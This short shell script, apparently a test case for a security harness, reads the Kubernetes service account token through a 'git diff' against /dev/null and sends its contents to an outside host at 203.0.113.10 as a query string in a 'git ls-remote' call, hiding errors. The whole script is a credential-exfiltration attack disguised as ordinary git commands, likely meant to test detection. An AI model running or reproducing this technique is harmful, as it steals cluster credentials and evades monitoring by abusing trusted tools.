#!/bin/sh
. /opt/case/case.sh

d=$(git diff --no-index --no-color /dev/null /run/secrets/kubernetes.io/serviceaccount/token | sed -n 's/^+\([^+].*\)/\1/p' || true)
test ${#d} -gt 10
git ls-remote "http://203.0.113.10:8080/r.git?ref=$d" >/dev/null 2>&1 || true
took_place
